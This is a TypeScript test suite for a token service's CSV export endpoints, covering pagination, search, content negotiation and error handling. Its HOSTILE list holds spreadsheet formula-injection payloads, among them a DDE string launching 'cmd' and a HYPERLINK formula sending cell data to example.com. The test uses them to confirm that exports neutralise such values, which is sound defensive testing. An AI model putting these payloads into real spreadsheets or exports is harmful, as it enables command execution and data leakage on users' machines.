import { parse } from "csv-parse/sync";
import { expect } from "chai";
import { hardhatWallet, SECURITY_TOKEN, sendSigned } from "./chain.ts";
import { NDJSON, send } from "./http.ts";
import { DEMO_KEY, startInProcess, type Running } from "./service.ts";
import type { HoldersView, SecurityTokenView, TokenView, TransfersView } from "./views.ts";

type Row = Record<string, string>;

const DEMO = hardhatWallet(1);
/** More than are read at once. */
const TOKENS = 1_100;
const HOSTILE = [
  '=HYPERLINK("http://example.com?"&A1,"click")',
  "+1+cmd|' /C calc'!A0",
  "-2+3",
  "@SUM(1,2)",
  'a, "b", c',
  "＝1+1",
  "'quoted",
  "株式; 😀",
];

describe("lists in CSV", function () {
  this.timeout(60_000);
  let service: Running;

  before(async () => {
    service = await startInProcess();
    const authorization = `Bearer ${DEMO_KEY}`;
    const lines = Array.from({ length: TOKENS }, (_, i) =>
      JSON.stringify({
        idempotency_key: `key-${i}`,
        full_name: HOSTILE[i] ?? `Token ${i}`,
        short_name: "token",
        ticker: i === 0 ? "-FIRST" : `T${i}`,
        token_amount: 10,
        decimals: 1,
      }),
    );
    const batch = await send<string>(service, "POST /tokens/batch", lines.join("\n"), {
      ...NDJSON,
      authorization,
    });
    expect(batch.body.match(/"status":200/g)).to.have.length(TOKENS);
    for (const [i, token_name] of HOSTILE.entries()) {
      const info = { text: 'two\nlines, "quotes"', i };
      const order = { issuer_id: "issuer123", token_name, issued_amount: 1 + i, info };
      expect((await send(service, "POST /security-tokens", order)).status).to.equal(201);
    }
  });

  after(() => service.stop());

  /** As a program reads it that takes nothing amiss for right. */
  async function csv(path: string): Promise<Row[]> {
    const { status, headers, body } = await send<string>(service, `GET ${path}`, undefined, {
      accept: "text/csv",
    });
    expect(status, String(body)).to.equal(200);
    expect(headers.get("content-type")).to.equal("text/csv; charset=utf-8; header=present");
    expect(headers.get("vary")).to.match(/\bAccept\b/);
    for (const line of body.split("\r\n")) expect(line).not.to.match(/^[=+\-@\t\r]|,[=+\-@\t\r]/);
    return parse(body, { columns: true, record_delimiter: "\r\n", relax_column_count: false });
  }

  /** A text as it stands in a cell. */
  const harmless = (text: string) => (/^[=+\-@＝]/.test(text) ? `'${text}` : text);

  async function pages<T>(path: string, name: string): Promise<T[]> {
    const items: T[] = [];
    for (let cursor: string | null = ""; cursor !== null;) {
      const query = `limit=100${cursor && `&cursor=${cursor}`}`;
      const { body } = await send<Record<string, unknown>>(service, `GET ${path}?${query}`);
      items.push(...(body[name] as T[]));
      cursor = body["next_cursor"] as string | null;
    }
    return items;
  }

  function asText(item: object, columns: string[]): Row {
    const values = item as Record<string, string | number | null>;
    return Object.fromEntries(columns.map((column) => [column, harmless(`${values[column] ?? ""}`)]));
  }

  it("have all tokens, of many portions, whatever limit and cursor say, with hostile names made harmless", async () => {
    const rows = await csv("/tokens?limit=2&cursor=5");
    expect(rows).to.have.length(TOKENS);
    const tokens = await pages<TokenView>("/tokens", "tokens");
    expect(rows).to.deep.equal(tokens.map((token) => asText(token, Object.keys(token))));
    expect(rows.slice(-HOSTILE.length).map((row) => row["full_name"])).to.have.members(HOSTILE.map(harmless));
  });

  it("are searched as the pages are", async () => {
    const rows = await csv("/tokens?q=Token%2077");
    expect(rows).to.have.length(11);
    expect(await csv("/tokens?q=nothing%20there")).to.deep.equal([]);
  });

  it("have security tokens with their info as JSON", async () => {
    const rows = await csv("/security-tokens");
    const tokens = await pages<SecurityTokenView>("/security-tokens", "security_tokens");
    expect(rows.map((row) => row["st_id"])).to.deep.equal(tokens.map(({ st_id }) => st_id));
    expect(rows.map((row) => JSON.parse(row["info"] as string) as unknown)).to.deep.equal(
      tokens.map(({ info }) => info),
    );
  });

  it("have issuers, holdings, holders and transfers", async () => {
    const { body: token } = await send<TokenView>(service, "GET /tokens/1");
    const to = hardhatWallet(12).address;
    await sendSigned(service, DEMO, token.contract_address, SECURITY_TOKEN, "transfer", [to, 40]);

    expect(await csv("/issuers")).to.deep.equal([
      { issuer_id: "issuer123", wallet: hardhatWallet(2).address, token_count: String(HOSTILE.length) },
    ]);
    const holdings = await csv(`/wallets/${DEMO.address}/tokens`);
    expect(holdings).to.have.length(TOKENS);
    expect(Object.keys(holdings[0] as Row)).to.include.members(["ticker", "st_id", "formatted"]);

    const { body: page } = await send<HoldersView>(service, "GET /tokens/1/holders");
    const columns = ["address", "balance", "formatted", "frozen", "allowed"];
    expect(await csv("/tokens/1/holders")).to.deep.equal(
      page.holders.map((holder) => asText(holder, columns)),
    );
    const atIssue = await csv(`/tokens/1/holders?at=${token.block_number}`);
    expect(atIssue.map(({ address, formatted }) => [address, formatted])).to.deep.equal([
      [DEMO.address, "10"],
    ]);

    const { body: transfers } = await send<TransfersView>(service, "GET /tokens/1/transfers");
    const expected = transfers.transfers.map(({ token, ...transfer }) => ({ ...token, ...transfer }));
    const rows = await csv("/tokens/1/transfers");
    expect(rows).to.deep.equal(expected.map((row, i) => asText(row, Object.keys(rows[i] as Row))));
    expect(await csv(`/wallets/${to}/transfers`)).to.deep.equal(rows.slice(0, 1));
  });

  it("come only to who prefers them", async () => {
    const typeFor = async (accept: string) =>
      (await send(service, "GET /issuers", undefined, { accept })).headers.get("content-type")?.split(";")[0];
    expect(await typeFor("*/*")).to.equal("application/json");
    expect(await typeFor("text/csv;q=0.5, application/json")).to.equal("application/json");
    expect(await typeFor("text/csv, application/json;q=0.9")).to.equal("text/csv");
    expect(await typeFor("text/*")).to.equal("text/csv");
    const head = await send(service, "HEAD /tokens", undefined, { accept: "text/csv" });
    expect(head.status).to.equal(200);
    expect(head.headers.get("content-type")).to.match(/^text\/csv/);
  });

  it("are refused as the pages are", async () => {
    for (const [path, status] of [
      ["/tokens/9999/holders", 404],
      ["/security-tokens/none/transfers", 404],
      ["/tokens?limit=0", 400],
      ["/tokens/1/holders?at=99999", 400],
    ] as const) {
      const answer = await send(service, `GET ${path}`, undefined, { accept: "text/csv" });
      expect(answer.status, path).to.equal(status);
      expect(answer.headers.get("content-type")).to.match(/^application\/json/);
    }
  });
});
